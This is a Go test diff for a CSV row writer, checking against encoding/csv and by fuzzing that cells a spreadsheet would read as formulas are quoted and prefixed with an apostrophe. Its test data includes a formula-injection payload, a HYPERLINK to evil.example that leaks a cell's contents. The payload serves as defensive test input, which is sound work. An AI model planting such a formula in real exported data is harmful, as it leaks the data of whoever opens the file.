@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"encoding/xml"
 	"html/template"
+	"io"
 	"math/rand/v2"
 	"os"
 	"path/filepath"
@@ -158,26 +159,107 @@ func TestFirstSentence(t *testing.T) {
 	}
 }
 
-// TestCSVRow checks the hand-written CSV rows against encoding/csv.
+// TestCSVRow checks the hand-written CSV rows against encoding/csv: each
+// cell as encoding/csv writes it, except that a cell a spreadsheet would
+// take for a formula is written as encoding/csv writes it behind a ', and
+// quoted even where encoding/csv would not quote it.
 func TestCSVRow(t *testing.T) {
-	fields := []string{"", "后叶镇", "a,b", `say "hi"`, "two\nlines", "cr\r\nlf", " lead", "\u3000全角", `\.`, "\r", "tail ", "x\"y,z\n"}
-	r := rand.New(rand.NewPCG(3, 4))
-	for i := 0; i < 300; i++ {
-		row := make([]string, 1+r.IntN(6))
-		for k := range row {
-			row[k] = fields[r.IntN(len(fields))] + fields[r.IntN(len(fields))]
-		}
-		var want bytes.Buffer
-		w := csv.NewWriter(&want)
+	fields := []string{"", "后叶镇", "a,b", `say "hi"`, "two\nlines", "cr\r\nlf", " lead", "\u3000全角", `\.`, "\r", "tail ", "x\"y,z\n",
+		`=HYPERLINK("http://evil.example/?d="&A2)`, "=1+2", "+86 023", "-", "-5", "@SUM(A1)", "\tx", "\rx", "'quoted", "a=b"}
+	cell := func(f string) []byte {
+		var buf bytes.Buffer
+		w := csv.NewWriter(&buf)
 		w.UseCRLF = true
-		if err := w.Write(row); err != nil {
+		defused := csvFormula(f)
+		if defused {
+			f = "'" + f
+		}
+		if err := w.Write([]string{f}); err != nil {
 			t.Fatal(err)
 		}
 		w.Flush()
-		if got := appendCSVRow(nil, row); !bytes.Equal(got, want.Bytes()) {
-			t.Fatalf("row %q:\n got %q\nwant %q", row, got, want.Bytes())
+		out := bytes.TrimSuffix(buf.Bytes(), []byte("\r\n"))
+		if defused && out[0] != '"' {
+			out = append(append([]byte{'"'}, out...), '"') // encoding/csv left it bare: nothing in it needs escaping
+		}
+		return out
+	}
+	r := rand.New(rand.NewPCG(3, 4))
+	formulas := 0
+	for i := 0; i < 500; i++ {
+		row := make([]string, 1+r.IntN(6))
+		var want []byte
+		for k := range row {
+			row[k] = fields[r.IntN(len(fields))] + fields[r.IntN(len(fields))]
+			if k > 0 {
+				want = append(want, ',')
+			}
+			want = append(want, cell(row[k])...)
+			if csvFormula(row[k]) {
+				formulas++
+			}
+		}
+		want = append(want, '\r', '\n')
+		if got := appendCSVRow(nil, row); !bytes.Equal(got, want) {
+			t.Fatalf("row %q:\n got %q\nwant %q", row, got, want)
 		}
 	}
+	if formulas == 0 {
+		t.Error("no cell of the test starts a formula")
+	}
+	for f, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?d="&A2)`: `"'=HYPERLINK(""http://evil.example/?d=""&A2)"`,
+		"+86 023": `"'+86 023"`, "-": `"'-"`, "-5": `"'-5"`, "@SUM(A1)": `"'@SUM(A1)"`, "\tx": "\"'\tx\"", "\rx": `"'x"`,
+		"a=b": "a=b", "'quoted": "'quoted", "": "",
+	} {
+		if got := string(appendCSVRow(nil, []string{f})); got != want+"\r\n" {
+			t.Errorf("cell %q is written %q, want %q", f, got, want+"\r\n")
+		}
+	}
+}
+
+// FuzzCSVRow checks that every cell reads back through encoding/csv as it
+// was, or behind a ' when a spreadsheet would take it for a formula, and
+// that no cell read back starts a formula. Carriage returns are the one
+// loss: encoding/csv's writer drops them inside a cell, as appendCSVRow
+// does, and its reader would turn a kept \r\n into \n (the JSON keeps
+// them).
+func FuzzCSVRow(f *testing.F) {
+	for _, seed := range [][2]string{
+		{`抄送：=HYPERLINK("http://evil.example/?d="&A2)`, `=HYPERLINK("http://evil.example/?d="&A2)`},
+		{"+86 023 1234", "-"}, {"@SUM(A1)", "\t=1"}, {"\r=1", "a\r\nb"}, {"", `\.`}, {" lead", "x\"y,z\n"}, {"后叶镇", "\xff\xfe"},
+	} {
+		f.Add(seed[0], seed[1])
+	}
+	f.Fuzz(func(t *testing.T, a, b string) {
+		// The last cell is never empty: encoding/csv's reader skips the
+		// empty line that a row of one empty cell is.
+		row := []string{a, b, "end"}
+		out := appendCSVRow(nil, row)
+		rd := csv.NewReader(bytes.NewReader(out))
+		got, err := rd.Read()
+		if err != nil {
+			t.Fatalf("row %q written %q does not read back: %v", row, out, err)
+		}
+		if _, err := rd.Read(); err != io.EOF {
+			t.Fatalf("row %q written %q reads back as more than one row (%v)", row, out, err)
+		}
+		if len(got) != len(row) {
+			t.Fatalf("row %q written %q reads back as %q", row, out, got)
+		}
+		for i, v := range row {
+			want := strings.ReplaceAll(v, "\r", "")
+			if csvFormula(v) {
+				want = "'" + want
+			}
+			if got[i] != want {
+				t.Errorf("cell %q written %q reads back as %q, want %q", v, out, got[i], want)
+			}
+			if csvFormula(got[i]) {
+				t.Errorf("cell %q reads back as %q, which a spreadsheet takes for a formula", v, got[i])
+			}
+		}
+	})
 }
 
 // TestTemplateUses checks which site-wide values the dependency analysis
